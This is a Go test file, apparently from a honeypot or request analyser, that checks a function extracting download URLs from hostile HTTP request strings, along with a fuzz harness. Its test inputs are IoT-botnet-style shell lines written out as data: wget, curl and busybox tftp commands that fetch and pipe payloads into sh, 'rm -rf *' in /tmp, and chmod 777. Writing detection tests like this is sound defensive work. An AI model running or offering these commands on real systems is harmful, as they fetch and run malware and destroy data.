package httpd

import (
	"slices"
	"strings"
	"testing"
)

func TestExtractURLs(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/arm;sh+/tmp/arm HTTP/1.1", []string{"http://1.2.3.4/arm"}},
		{"cmd=wget+http%3A%2F%2F5.5.5.5%2Fmips+-O+-%7Csh", []string{"http://5.5.5.5/mips"}},
		{"cmd=wget%2Bhttp%253A%252F%252F6.6.6.6%252Fx", []string{"http://6.6.6.6/x"}}, // double-encoded
		{"a HTTPS://Example.com/a?b=1 b", []string{"https://Example.com/a?b=1"}},
		{"curl ftp://u:p@[2001:db8::1]:21/f.sh|sh", []string{"ftp://u:p@[2001:db8::1]:21/f.sh"}},
		{"`wget http://a.b/c`", []string{"http://a.b/c"}},
		{"'http://q.r/s'", []string{"http://q.r/s"}},
		{"see http://x.y/z.", []string{"http://x.y/z"}},
		{"tftp://9.9.9.9/t tftp://9.9.9.9/t", []string{"tftp://9.9.9.9/t"}},
		{"xhttp://a.b/c", []string{"http://a.b/c"}},
		{"gopher://a.b/ file:///etc/passwd http:// http:///x", nil},
		{`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">`, nil},
		{`<a xmlns="http://example.org/ns">http://1.1.1.1/p</a>`, []string{"http://1.1.1.1/p"}},
		{"$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /mips)", []string{"tftp://1.2.3.4/mips"}},
		{"cd /tmp; tftp -g -l a -r b.arm 10.0.0.9 69; chmod 777 a", []string{"tftp://10.0.0.9:69/b.arm"}},
		{"busybox tftp -r mips -g 10.0.0.9", []string{"tftp://10.0.0.9/mips"}},
		{"tftp 10.1.1.1 -c get bins.sh", []string{"tftp://10.1.1.1/bins.sh"}},
		{"tftp -g -r x; 10.0.0.9", nil}, // the host is in another command
		{"tftp -g -r x notahost", nil},  // no dot: not a host
		{"wget -O /tmp/x http://2.2.2.2/x", []string{"http://2.2.2.2/x"}},
	} {
		var got []string
		for _, f := range ExtractURLs([]byte(tc.in), 10) {
			got = append(got, f.URL)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%q: %q, want %q", tc.in, got, tc.want)
		}
	}
	fs := ExtractURLs([]byte("busybox wget -g 1.2.3.4 -l /tmp/x -r /mips"), 10)
	if len(fs) != 1 || fs[0].Target != "/tmp/x" {
		t.Errorf("target: %+v", fs)
	}
	many := strings.Repeat("http://a.b/1 http://a.b/2 http://c.d/", 50)
	if n := len(ExtractURLs([]byte(many), 2)); n != 2 {
		t.Errorf("max 2: %d URLs", n)
	}
	long := "http://a.b/" + strings.Repeat("x", 5000)
	if fs := ExtractURLs([]byte(long), 1); len(fs) != 1 || len(fs[0].URL) != maxURL {
		t.Errorf("long URL: %d", len(fs[0].URL))
	}
}

func FuzzExtractURLs(f *testing.F) {
	for _, s := range []string{
		"GET /shell?cd+/tmp;wget+http://1.2.3.4/arm HTTP/1.1\r\n",
		"wget+http%3A%2F%2F1.2.3.4%2Fx",
		"$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /mips)",
		`xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"`,
		"tftp 1.1.1.1 -c get x",
		"%%%2",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		fs := ExtractURLs(b, 8)
		if len(fs) > 8 {
			t.Fatalf("%d URLs", len(fs))
		}
		seen := map[string]bool{}
		for _, u := range fs {
			if len(u.URL) > maxURL || seen[u.URL] {
				t.Fatalf("URL %q (len %d, repeated %v)", u.URL, len(u.URL), seen[u.URL])
			}
			seen[u.URL] = true
			scheme, rest, ok := strings.Cut(u.URL, "://")
			if !ok || !slices.Contains(schemes, scheme) || rest == "" {
				t.Fatalf("URL %q", u.URL)
			}
			for i := 0; i < len(u.URL); i++ {
				if c := u.URL[i]; c <= 0x20 || c >= 0x7f {
					t.Fatalf("URL %q has byte %#x", u.URL, c)
				}
			}
		}
	})
}
